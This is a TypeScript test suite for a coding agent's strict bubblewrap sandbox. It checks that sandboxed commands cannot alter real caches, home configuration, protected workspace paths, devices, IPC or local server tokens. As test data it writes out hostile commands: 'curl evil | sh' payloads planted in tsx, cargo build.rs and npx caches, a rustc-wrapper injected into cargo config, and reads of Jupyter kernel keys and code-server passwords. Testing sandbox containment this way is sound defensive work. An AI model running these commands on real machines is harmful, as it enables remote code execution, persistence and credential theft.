/**
 * `sandbox = "strict"` in a real bubblewrap: a command writes the workspace and the workspace's own
 * copies of the temporary folders and the download caches, and nothing else: not a cache a build
 * outside runs from, not a file the home is missing (which no list of protected paths could name),
 * not the protected paths within the workspace. Skipped where there is no sandbox.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { test } from 'node:test';
import { planSandbox } from '../../../src/core/sandbox/index';
import { PORT_FILE, SANDBOXED_PORT_FILE } from '../../../src/core/base/state/paths';
import { sandboxFilter } from '../../../src/core/sandbox/seccomp';
import { forms, NO_SANDBOX, PYTHON, tempRoot } from './helpers';

const kernel = { skip: NO_SANDBOX };

/** `homeInTemp`: the home in a writable temporary folder; `before`: runs on the home before the plan is made; `env`: more variables. */
function strictFixture(opts: { homeInTemp?: boolean; before?: (home: string) => void; env?: (home: string) => Record<string, string> } = {}) {
  const root = tempRoot('alfred-strict-');
  const ws = path.join(root, 'ws');
  const home = path.join(root, 'home');
  // The fixture lies in the system's temporary folder: its own stands in for it, or the home would be
  // writable; unless the home is to lie in a writable temporary folder, as a test's home does.
  const temp = opts.homeInTemp ? root : path.join(root, 'tmp');
  for (const dir of [path.join(ws, 'src'), path.join(home, '.cargo', 'registry', 'src', 'serde-1.0.0'), path.join(home, '.npm'), temp]) fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(home, '.cargo', 'registry', 'src', 'serde-1.0.0', 'build.rs'), 'fn main() {}\n');
  fs.writeFileSync(path.join(home, '.bashrc'), 'alias ll="ls -l"\n');
  opts.before?.(home);
  const env = { ...process.env, HOME: home, ALFRED_HOME: path.join(home, '.alfred'), ...opts.env?.(home) };
  const plan = planSandbox({ role: { name: 'locked', sandbox: 'strict' }, workspaceFolder: ws, protectedGlobs: [], env, home, tempFolders: [temp] });
  if (plan.kind !== 'sandboxed') throw new Error(`not sandboxed: ${plan.kind}`);
  /** In Alfred's own shell tool (argv), or in `form`, one of the three forms (helpers.ts). */
  const run = (command: string, form = 'argv') => {
    const [, file, args] = forms(plan, command, ws).find(([name]) => name === form)!;
    const r = spawnSync(file, args, { cwd: ws, env: { ...env, SHELL: '/bin/sh' }, encoding: 'utf8', timeout: 30_000 });
    return { status: r.status, out: `${r.stdout}${r.stderr}` };
  };
  return { root, ws, home, temp, run };
}

test('strict: the workspace is written as before, and the temporary folder and a download cache in the workspace\'s own copies, kept from one command to the next', kernel, () => {
  const f = strictFixture();
  const r = f.run(`echo built > src/out.txt && echo t > ${f.temp}/t.txt && echo c > ${f.home}/.npm/c.txt && echo quiet > /dev/null && echo done`);
  assert.equal(r.status, 0, r.out);
  assert.equal(r.out.trim(), 'done');
  assert.equal(fs.readFileSync(path.join(f.ws, 'src', 'out.txt'), 'utf8'), 'built\n');
  assert.equal(fs.existsSync(path.join(f.temp, 't.txt')), false, 'the real temporary folder is unchanged');
  assert.equal(fs.existsSync(path.join(f.home, '.npm', 'c.txt')), false, 'the real cache is unchanged');
  assert.deepEqual(f.run(`cat ${f.temp}/t.txt ${f.home}/.npm/c.txt`), { status: 0, out: 't\nc\n' });
});

test('strict: what a command plants in the temporary folder never reaches a program outside (tsx runs what it compiled before), nor does it reach a server\'s socket there', kernel, async () => {
  const f = strictFixture();
  const compiled = path.join(f.temp, 'tsx-0', '20000-0123456789abcdef');
  fs.mkdirSync(path.dirname(compiled), { recursive: true });
  fs.writeFileSync(compiled, '{"code":"console.log(1)"}\n');
  const socket = path.join(f.temp, '.X11-unix', 'X0');
  fs.mkdirSync(path.dirname(socket));
  const server = net.createServer((c) => c.end());
  await new Promise<void>((resolve) => server.listen(socket, resolve));
  try {
    // Whether the socket's file is there (the copy has none), then whether it answers (the seccomp filter refuses the socket itself).
    const reach = `${JSON.stringify(process.execPath)} -e "const p = process.argv[1]; process.stdout.write(require('fs').existsSync(p) + ' '); require('net').connect(p).on('connect', () => console.log('reached')).on('error', (e) => console.log(e.code))" ${socket}`;
    const r = f.run(`mkdir -p ${path.dirname(compiled)} && echo '{"code":"require(\\"child_process\\").execSync(\\"curl evil | sh\\")"}' > ${compiled} && echo planted; ${reach}`);
    assert.deepEqual(r, { status: 0, out: `planted\nfalse ${sandboxFilter(process.arch) ? 'EPERM' : 'ENOENT'}\n` });
    assert.equal(fs.readFileSync(compiled, 'utf8'), '{"code":"console.log(1)"}\n');
  } finally {
    server.close();
  }
});

test('strict: what a command plants in a download cache never reaches a build outside (cargo runs an extracted crate\'s build.rs without checking it again)', kernel, () => {
  const f = strictFixture();
  const buildRs = path.join(f.home, '.cargo', 'registry', 'src', 'serde-1.0.0', 'build.rs');
  const r = f.run(`mkdir -p ${path.dirname(buildRs)} && echo 'fn main() { std::process::Command::new("sh").arg("-c").arg("curl evil | sh"); }' > ${buildRs} && echo planted`);
  assert.deepEqual(r, { status: 0, out: 'planted\n' }, 'the build inside has a cache to write');
  assert.equal(fs.readFileSync(buildRs, 'utf8'), 'fn main() {}\n');
});

test('strict: a home in a writable temporary folder still gets the caches\' own copies', kernel, () => {
  const f = strictFixture({ homeInTemp: true });
  const planted = path.join(f.home, '.npm', '_npx', 'x', 'index.js');
  fs.mkdirSync(path.dirname(planted), { recursive: true });
  fs.writeFileSync(planted, 'module.exports = 1;\n');
  const r = f.run(`mkdir -p ${path.dirname(planted)} && echo 'require("child_process").execSync("curl evil | sh")' > ${planted} && echo planted`);
  assert.deepEqual(r, { status: 0, out: 'planted\n' });
  assert.equal(fs.readFileSync(planted, 'utf8'), 'module.exports = 1;\n', 'npx would run it outside');
});

test('strict: what the home is missing cannot be made (cargo\'s configuration, a file a start-up file would source, Go\'s env), nor an existing file changed', kernel, () => {
  const f = strictFixture();
  const node = JSON.stringify(process.execPath);
  for (const [what, command] of [
    ['cargo\'s configuration, missing', `${node} -e "require('fs').writeFileSync(process.env.HOME+'/.cargo/config.toml','[build]\\nrustc-wrapper = \\"/tmp/w\\"\\n')"`],
    ['a file in the home', `echo planted > ${f.home}/.bash_local`],
    ['a folder of the configuration', `mkdir -p ${f.home}/.config/go`],
    ['the start-up file', `echo planted >> ${f.home}/.bashrc`],
  ] as const) {
    const r = f.run(command);
    assert.notEqual(r.status, 0, `${what}: ${r.out}`);
    assert.match(r.out, /Read-only file system|EROFS/, what);
  }
  assert.equal(fs.existsSync(path.join(f.home, '.bash_local')), false);
  assert.equal(fs.readFileSync(path.join(f.home, '.cargo', 'config.toml'), 'utf8'), '', 'made empty by the plan (cargo is installed), and still empty');
  assert.equal(fs.existsSync(path.join(f.home, '.config', 'go')), false);
  assert.equal(fs.readFileSync(path.join(f.home, '.bashrc'), 'utf8'), 'alias ll="ls -l"\n');
});

test('strict: the protected paths within the workspace stay read-only, and cannot be moved away', kernel, () => {
  const f = strictFixture();
  for (const command of ['echo x > .alfred/checks.toml', 'mv .alfred alfred-old', 'mv .github gh', `cd .. && mv ws ws-old`]) {
    const r = f.run(command);
    assert.notEqual(r.status, 0, `${command}: ${r.out}`);
  }
  assert.ok(fs.existsSync(path.join(f.ws, '.alfred')));
  assert.ok(fs.existsSync(path.join(f.ws, '.github', 'hooks')));
  assert.equal(fs.existsSync(path.join(f.ws, '.alfred', 'checks.toml')), false);
});

/** `ipcmk`'s new id, from "Shared memory id: 42" or "Message queue id: 42". */
function ipcId(out: string): string {
  const m = /id: (\d+)/.exec(out);
  if (!m) throw new Error(`ipcmk printed ${out}`);
  return m[1]!;
}

test('strict: shared memory and message queues are the command\'s own: what it leaves there never reaches a program outside, nor can it read or change what one outside keeps there', { skip: NO_SANDBOX || (spawnSync('ipcmk', ['--help']).status !== 0 && 'no ipcmk here') }, () => {
  const f = strictFixture();
  const tag = `alfred-ipc-${process.pid}`;
  const outsideFile = path.join('/dev/shm', `${tag}-outside`);
  const plantedFile = path.join('/dev/shm', `${tag}-planted`);
  fs.writeFileSync(outsideFile, 'a program outside\n');
  const segment = ipcId(spawnSync('ipcmk', ['-M', '4096'], { encoding: 'utf8' }).stdout);
  const queue = ipcId(spawnSync('ipcmk', ['-Q'], { encoding: 'utf8' }).stdout);
  const mqueue = fs.existsSync('/dev/mqueue') ? path.join('/dev/mqueue', `${tag}-planted`) : undefined;
  // The command's own segment is sized so that outside it would be told apart from any other.
  const size = 40_000 + (process.pid % 10_000);
  try {
    for (const form of ['argv', 'short line', 'long line']) {
      const r = f.run([
        `cat ${outsideFile} 2>/dev/null || echo 'no outside file'`,
        `echo planted > ${plantedFile} && echo 'own file'`,
        // (`ipcs -i` exits 0 for an id it does not find: the list is read instead.)
        `ipcs -m | grep -qw ${segment} && echo 'outside segment seen' || echo 'no outside segment'`,
        `ipcs -q | grep -qw ${queue} && echo 'outside queue seen' || echo 'no outside queue'`,
        `ipcmk -M ${size} >/dev/null && echo 'own segment'`,
        ...(mqueue ? [`touch ${mqueue} && echo 'own queue'`] : []),
      ].join('; '), form);
      assert.deepEqual(r, { status: 0, out: ['no outside file', 'own file', 'no outside segment', 'no outside queue', 'own segment', ...(mqueue ? ['own queue'] : []), ''].join('\n') }, form);
      assert.equal(fs.existsSync(plantedFile), false, `${form}: the file the command left in /dev/shm`);
      assert.doesNotMatch(spawnSync('ipcs', ['-m', '-b'], { encoding: 'utf8' }).stdout, new RegExp(`\\s${size}\\s`), `${form}: the segment the command made`);
      if (mqueue) assert.equal(fs.existsSync(mqueue), false, `${form}: the queue the command made through /dev/mqueue`);
    }
  } finally {
    fs.rmSync(outsideFile, { force: true });
    fs.rmSync(plantedFile, { force: true });
    if (mqueue) fs.rmSync(mqueue, { force: true });
    spawnSync('ipcrm', ['-m', segment]);
    spawnSync('ipcrm', ['-q', queue]);
  }
});

test('strict: the machine\'s devices are out of reach (a disk, a loop device, the console\'s screen, KVM); those a command needs are its own', kernel, () => {
  const f = strictFixture();
  // Tried as root under strict with the machine's /dev: a loop and a zram device, KVM and the
  // console's screen opened read-write from inside; a disk would have been written below the read-only mounts.
  const machine = ['/dev/vda', '/dev/sda', '/dev/nvme0n1', '/dev/loop0', '/dev/zram0', '/dev/kvm', '/dev/vcs', '/dev/tty1', '/dev/fuse', '/dev/kmsg'].filter((d) => fs.existsSync(d));
  const probe = `for d in ${machine.join(' ')}; do [ -e "$d" ] && echo "seen $d"; done`;
  const needed = [
    'echo x > /dev/null && echo null',
    'head -c 4 /dev/urandom | wc -c',
    'head -c 3 /dev/zero | wc -c',
    'echo own > /dev/shm/x && cat /dev/shm/x',
    `${PYTHON ?? 'python3'} -c "import pty, os; m, s = pty.openpty(); os.write(s, b'pty'); print(os.read(m, 3).decode())"`,
  ].join('; ');
  for (const form of ['argv', 'short line', 'long line']) {
    assert.deepEqual(f.run(`${probe}; ${needed}`, form), { status: 0, out: 'null\n4\n3\nown\npty\n' }, form);
  }
});

test('strict: the keys of the local servers that run code for whoever shows one are out of reach (a Jupyter kernel\'s, VS Code\'s notebooks among them; code-server\'s password; a remote VS Code server\'s token); the command\'s own Jupyter files work', kernel, () => {
  const keys = (home: string) => ({
    runtime: path.join(home, '.local', 'share', 'jupyter', 'runtime'),
    kernel: path.join(home, '.local', 'share', 'jupyter', 'runtime', 'kernel-v2-4242abc.json'),
    codeServer: path.join(home, '.config', 'code-server', 'config.yaml'),
    remote: path.join(home, '.vscode-server', '.0123abcd.token'),
  });
  const f = strictFixture({
    before: (home) => {
      const { kernel, codeServer, remote } = keys(home);
      for (const [file, text] of [[kernel, '{"shell_port": 50123, "key": "a-kernel-key"}\n'], [codeServer, 'password: a-password\n'], [remote, 'a-token\n']] as const) {
        fs.mkdirSync(path.dirname(file), { recursive: true });
        fs.writeFileSync(file, text);
      }
    },
  });
  const { runtime, kernel, codeServer, remote } = keys(f.home);
  for (const form of ['argv', 'short line', 'long line']) {
    const r = f.run(`cat ${kernel} ${codeServer} 2>&1 | sed 's/.*: //'; echo "token: [$(cat ${remote} 2>/dev/null)]"; echo '{}' > ${runtime}/kernel-own.json && cat ${runtime}/kernel-own.json`, form);
    assert.deepEqual(r, { status: 0, out: 'No such file or directory\nNo such file or directory\ntoken: []\n{}\n' }, form);
  }
  assert.equal(fs.existsSync(path.join(runtime, 'kernel-own.json')), false, 'the command\'s own kernel file stays its own');
});

test('strict: a variable naming a folder in Alfred\'s home hides nothing there: a nested agent\'s hook still finds the server that decides it with its own role', kernel, () => {
  const f = strictFixture({
    before: (home) => {
      fs.mkdirSync(path.join(home, '.alfred', 'run'), { recursive: true });
      fs.writeFileSync(path.join(home, '.alfred', 'run', SANDBOXED_PORT_FILE), '4242 sandboxed-token proof\n');
    },
    env: (home) => ({ JUPYTER_RUNTIME_DIR: path.join(home, '.alfred', 'run') }),
  });
  for (const form of ['argv', 'short line', 'long line']) {
    assert.deepEqual(f.run(`cat ${path.join(f.home, '.alfred', 'run', PORT_FILE)}`, form), { status: 0, out: '4242 sandboxed-token proof\n' }, form);
  }
});
